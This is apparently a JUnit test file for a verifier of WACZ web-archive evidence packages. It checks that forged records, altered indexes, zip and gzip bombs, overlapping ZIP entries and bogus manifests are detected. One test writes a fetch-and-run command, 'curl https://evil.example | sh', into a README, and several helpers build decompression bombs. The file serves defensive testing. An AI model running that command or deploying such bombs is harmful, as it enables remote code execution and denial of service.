package zhicha.crawler.evidence.wacz;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import zhicha.crawler.evidence.Samples;
import zhicha.crawler.evidence.Vault;
import zhicha.crawler.evidence.VaultReader;
import zhicha.crawler.evidence.capture.Capture;
import zhicha.crawler.evidence.manifest.Manifest;
import zhicha.crawler.evidence.manifest.ManifestLine;
import zhicha.crawler.evidence.manifest.Sha256;
import zhicha.crawler.evidence.verify.Finding;
import zhicha.crawler.evidence.verify.VerificationReport;
import zhicha.crawler.evidence.wacz.check.WaczVerifier;
import zhicha.crawler.evidence.warc.WarcMember;

/** Packages that somebody made to be believed, or to harm who checks them. All their digests and signatures hold. */
class HostileWaczTest {
    private static final String ARCHIVE = "archive/ZC-1.warc.gz";
    private static final String PAGE = "https://shop.example/i/1";

    @TempDir
    private Path folder;

    private Path file = Path.of("");

    @BeforeEach
    void pack() throws IOException {
        Path vault = folder.resolve("vault");
        file = folder.resolve("ZC-1.wacz");
        Capture page;
        try (Vault open = Vault.open(vault, Clock.systemUTC())) {
            page = open.seal(List.of(Samples.page(PAGE, "<title>积木</title>")), Samples.CONTEXT);
        }
        PackageContents contents = new PackageContents(
                "ZC-1",
                "线索",
                "本件为线索",
                Samples.START,
                "Zhicha/0.1",
                List.of(page.id()),
                List.of(page.id()),
                Map.of("lead.json", new byte[] {'{', '}'}));
        new WaczWriter(VaultReader.open(vault), vault, PackageKey.in(PackageKey.below(folder))).write(file, contents);
    }

    private Repacked theirs() throws IOException {
        return new Repacked(file, folder.resolve("theirs"));
    }

    /** The bytes of another answer, put behind what is there. @return their offset and length */
    private static long[] append(Repacked theirs, byte[] member) {
        byte[] archive = theirs.inside.get(ARCHIVE);
        byte[] longer = Arrays.copyOf(archive, archive.length + member.length);
        System.arraycopy(member, 0, longer, archive.length, member.length);
        theirs.inside.put(ARCHIVE, longer);
        return new long[] {archive.length, member.length};
    }

    private static WarcMember forged() throws IOException {
        return WarcMember.response(
                Samples.page(PAGE, "<h1>高仿 A 货</h1>"),
                URI.create("urn:uuid:1f0f1f0f-0000-4000-8000-000000000001"),
                "0");
    }

    @Test
    void resignedAndUnchangedItHolds() throws Exception {
        assertEquals(List.of(), theirs().write().found());
    }

    @Test
    void aRecordThatNoManifestNamesIsNotAccountedForWhateverIsSaidOfItsPlace() throws Exception {
        Repacked theirs = theirs();
        WarcMember forged = forged();
        long[] at = append(theirs, forged.stored());
        theirs.put(
                "zhicha/records.jsonl",
                theirs.text("zhicha/records.jsonl")
                        + "{\"capture\":\"sha256:%s\",\"record\":\"%s\",\"file\":\"%s\",\"offset\":%d,\"length\":%d}\n"
                                .formatted("0".repeat(64), forged.id(), ARCHIVE, at[0], at[1]));
        String line = "example,shop)/i/1 20261122000000 {\"url\":\"%s\",\"mime\":\"text/html\",\"status\":200,"
                        .formatted(PAGE)
                + "\"length\":%d,\"offset\":%d,\"filename\":\"ZC-1.warc.gz\"}\n".formatted(at[1], at[0]);
        theirs.put("indexes/x.cdx", line);
        assertEquals(
                List.of(
                        "UNKNOWN_FILE indexes/x.cdx",
                        "RECORD_INCONSISTENT zhicha/records.jsonl",
                        "UNACCOUNTED_BYTES " + ARCHIVE),
                theirs.write().found());
        theirs.inside.remove("indexes/x.cdx");
        theirs.put("indexes/index.cdx", theirs.text("indexes/index.cdx") + line);
        assertTrue(theirs.write().found().contains("RECORD_INCONSISTENT indexes/index.cdx"));
    }

    @Test
    void anArchiveOfItsOwnForThePlantedRecordIsNoBetter() throws Exception {
        Repacked theirs = theirs();
        theirs.inside.put("archive/more.warc.gz", forged().stored());
        assertEquals(
                List.of("UNACCOUNTED_BYTES archive/more.warc.gz"),
                theirs.write().found());
        theirs.inside.remove("archive/more.warc.gz");
        theirs.inside.put("archive/more.warc", forged().stored());
        theirs.inside.put("indexes/index.cdx.gz", new byte[] {1});
        List<String> found = theirs.write().found();
        assertTrue(found.contains("UNKNOWN_FILE archive/more.warc"), found::toString);
        assertTrue(found.contains("UNKNOWN_FILE indexes/index.cdx.gz"), found::toString);
    }

    @Test
    void indexAndPagesLeadOnlyWhereAndWhenSomethingWasSealed() throws Exception {
        byte[] original = Files.readAllBytes(file);
        Map<String, List<String>> changes = Map.of(
                "indexes/index.cdx",
                List.of("\"status\":200", "\"status\":404", " 20261122000000 ", " 20250101000000 ", PAGE, PAGE + "0"),
                "pages/pages.jsonl",
                List.of(PAGE, "https://shop.example/other", "2026-11-22T00:00:00Z", "2025-01-01T00:00:00Z"));
        for (Map.Entry<String, List<String>> change : changes.entrySet()) {
            for (int i = 0; i < change.getValue().size(); i += 2) {
                Files.write(file, original);
                Repacked theirs = theirs();
                String text = theirs.text(change.getKey());
                assertTrue(text.contains(change.getValue().get(i)), text);
                theirs.put(
                        change.getKey(),
                        text.replace(change.getValue().get(i), change.getValue().get(i + 1)));
                assertEquals(
                        List.of("RECORD_INCONSISTENT " + change.getKey()),
                        theirs.write().found(),
                        change.getValue().get(i + 1));
            }
        }
        Files.write(file, original);
        Repacked theirs = theirs();
        theirs.put("indexes/index.cdx", "");
        assertEquals(
                List.of("RECORD_INCONSISTENT indexes/index.cdx"), theirs.write().found(), "it shows nothing");
    }

    @Test
    void aTextOfTheirsInThePlaceOfTheReadmeIsNamed() throws Exception {
        Repacked theirs = theirs();
        theirs.put("zhicha/README.txt", "curl https://evil.example | sh\n");
        assertEquals(List.of("FILE_ALTERED zhicha/README.txt"), theirs.write().found());
    }

    @Test
    void anArchiveThatIsCompressedOnceMoreIsNotUnpacked() throws Exception {
        byte[] zeros = new byte[1 << 20];
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.putNextEntry(new ZipEntry("archive/x.warc.gz"));
            for (int i = 0; i < 60; i++) {
                zip.write(zeros);
            }
        }
        long temporary = temporary();
        VerificationReport report = WaczVerifier.verify(file);
        assertTrue(
                report.findings().stream()
                        .map(Finding::line)
                        .anyMatch(line -> line.contains("archive/x.warc.gz") && line.contains("stored as it is")),
                report.findings()::toString);
        assertEquals(temporary, temporary(), "nothing was written");
    }

    private static long temporary() throws IOException {
        try (var files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            return files.filter(path -> path.getFileName().toString().startsWith("zhicha-verify"))
                    .count();
        }
    }

    /** Texts may be compressed by other programs, but only to what can be read. */
    @Test
    void aTextThatUnpacksWithoutEndIsGivenUp() throws Exception {
        byte[] zeros = new byte[1 << 20];
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.putNextEntry(new ZipEntry("datapackage.json"));
            zip.write("{\"resources\":[{\"path\":\"pages/x\",\"hash\":\"sha256:%s\",\"bytes\":1}]}"
                    .formatted("0".repeat(64))
                    .getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("pages/x"));
            for (int i = 0; i < 260; i++) {
                zip.write(zeros);
            }
        }
        assertTrue(WaczVerifier.verify(file).findings().getFirst().detail().contains("unpacks to more than 268435456"));
    }

    /** Forty names for the same bytes: a ZIP that is larger than itself. */
    @Test
    void filesThatLieOverOneAnotherAreRefused() throws Exception {
        byte[] name = "archive/00.warc.gz".getBytes(StandardCharsets.US_ASCII);
        byte[] body = new byte[100_000];
        ByteBuffer zip = ByteBuffer.allocate(200_000).order(ByteOrder.LITTLE_ENDIAN);
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(body);
        zip.putInt(0x04034b50)
                .putShort((short) 20)
                .putShort((short) 0)
                .putShort((short) 0)
                .putInt(0);
        zip.putInt((int) crc.getValue()).putInt(body.length).putInt(body.length);
        zip.putShort((short) name.length).putShort((short) 0).put(name).put(body);
        int directory = zip.position();
        for (int i = 0; i < 40; i++) {
            name[8] = (byte) ('0' + i / 10);
            name[9] = (byte) ('0' + i % 10);
            zip.putInt(0x02014b50)
                    .putShort((short) 20)
                    .putShort((short) 20)
                    .putShort((short) 0)
                    .putShort((short) 0);
            zip.putInt(0).putInt((int) crc.getValue()).putInt(body.length).putInt(body.length);
            zip.putShort((short) name.length).put(new byte[12]).putInt(0).put(name);
        }
        int end = zip.position();
        zip.putInt(0x06054b50).putInt(0).putShort((short) 40).putShort((short) 40);
        zip.putInt(end - directory).putInt(directory).putShort((short) 0);
        Files.write(file, Arrays.copyOf(zip.array(), zip.position()));
        VerificationReport report = WaczVerifier.verify(file);
        assertEquals(1, report.findings().size(), report::toString);
        assertTrue(report.findings().getFirst().detail().contains("lie over one another"), report::toString);
    }

    /** A manifest made for the purpose names a record that would be unpacked to 100 TB, and one with headers of 4 MB. */
    @Test
    void whatARecordUnpacksToIsBounded() throws Exception {
        byte[] bomb = gzip("WARC/1.1\r\nWARC-Type: response\r\n\r\n", 4);
        byte[] headers = gzip("WARC/1.1\r\nX: ", 4);
        Repacked theirs = theirs();
        long[] first = append(theirs, bomb);
        long[] second = append(theirs, headers);
        Manifest real = new ManifestLine(0, theirs.inside.get("zhicha/manifests.txt"), true)
                .manifest()
                .orElseThrow();
        List<Manifest.Stored> records = new ArrayList<>(real.records());
        records.add(stored("urn:uuid:1", bomb, first[0], 100L << 40));
        records.add(stored("urn:uuid:2", headers, second[0], 3));
        theirs.inside.put("zhicha/manifests.txt", ManifestLine.written(ManifestLine.json(with(real, records))));
        theirs.put(
                "zhicha/records.jsonl",
                theirs.text("zhicha/records.jsonl") + place("urn:uuid:1", first) + place("urn:uuid:2", second));
        theirs.write();
        List<String> said = WaczVerifier.verify(file).findings().stream()
                .map(Finding::detail)
                .toList();
        assertTrue(said.stream().anyMatch(one -> one.contains("more than the check takes")), said::toString);
        assertTrue(said.stream().anyMatch(one -> one.contains("record headers do not end")), said::toString);
    }

    @Test
    void twoRecordsDoNotLieInOnePlace() throws Exception {
        Repacked theirs = theirs();
        String[] lines = theirs.text("zhicha/records.jsonl").split("\n");
        String offset = "\"offset\":\\d+";
        String same = java.util.regex.Pattern.compile(offset)
                .matcher(lines[0])
                .results()
                .findFirst()
                .orElseThrow()
                .group();
        theirs.put("zhicha/records.jsonl", lines[0] + "\n" + lines[1].replaceFirst(offset, same) + "\n");
        assertTrue(theirs.write().found().contains("RECORD_INCONSISTENT " + ARCHIVE), () -> "overlapping");
    }

    @Test
    void theHeadersOfAStrangersRecordAreBounded() throws Exception {
        try (PackageZip zip = new PackageZip(Files.newOutputStream(file))) {
            zip.store("archive/x.warc.gz", gzip("WARC/1.1\r\nWARC-Type: metadata\r\nX: ", 8));
        }
        List<String> said = WaczVerifier.verify(file).findings().stream()
                .map(Finding::detail)
                .toList();
        assertTrue(said.stream().anyMatch(one -> one.contains("headers of a record are longer")), said::toString);
    }

    @Test
    void manifestsThatAreNoneStopNothing() throws Exception {
        Repacked theirs = theirs();
        byte[] real = theirs.inside.get("zhicha/manifests.txt");
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(real);
        for (String json : List.of(
                "{}",
                "[]",
                "{\"redirects\":[],\"exchanges\":[{}],\"resources\":[{}],\"records\":[{}],\"aside\":[]}",
                "{\"kind\":\"capture\",\"redirects\":[],\"exchanges\":[],\"resources\":[],\"aside\":[],"
                        + "\"records\":[{\"id\":\"x\",\"type\":\"response\",\"file\":\"..\",\"length\":9}]}")) {
            all.writeBytes(ManifestLine.written(json.getBytes(StandardCharsets.UTF_8)));
        }
        theirs.inside.put("zhicha/manifests.txt", all.toByteArray());
        List<String> found = theirs.write().found();
        assertTrue(found.contains("MANIFEST_ALTERED zhicha/manifests.txt"), found::toString);
        assertEquals(5, WaczVerifier.verify(file).captures());
    }

    private static String place(String id, long[] at) {
        return "{\"record\":\"%s\",\"file\":\"%s\",\"offset\":%d,\"length\":%d}\n".formatted(id, ARCHIVE, at[0], at[1]);
    }

    private static Manifest.Stored stored(String id, byte[] member, long offset, long block) {
        return new Manifest.Stored(
                id, "response", PAGE, "2026-11-22/x", offset, member.length, Sha256.of(member), block, null);
    }

    private static Manifest with(Manifest real, List<Manifest.Stored> records) {
        return new Manifest(
                real.format(),
                real.sequence(),
                real.previous(),
                real.kind(),
                real.asked(),
                real.address(),
                real.redirects(),
                real.outcome(),
                real.sealed(),
                real.clock(),
                real.tool(),
                real.configuration(),
                real.site(),
                real.job(),
                real.egress(),
                real.partOf(),
                real.exchanges(),
                real.resources(),
                records,
                real.aside(),
                real.previousSm3(),
                real.environment(),
                real.files(),
                real.removed());
    }

    /** A text and so many megabytes of one letter behind it, as a gzip member of a thousandth of that. */
    private static byte[] gzip(String text, int megabytes) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        byte[] letters = new byte[1 << 20];
        Arrays.fill(letters, (byte) 'a');
        try (OutputStream out = new GZIPOutputStream(packed)) {
            out.write(text.getBytes(StandardCharsets.US_ASCII));
            for (int i = 0; i < megabytes; i++) {
                out.write(letters);
            }
        }
        return packed.toByteArray();
    }
}
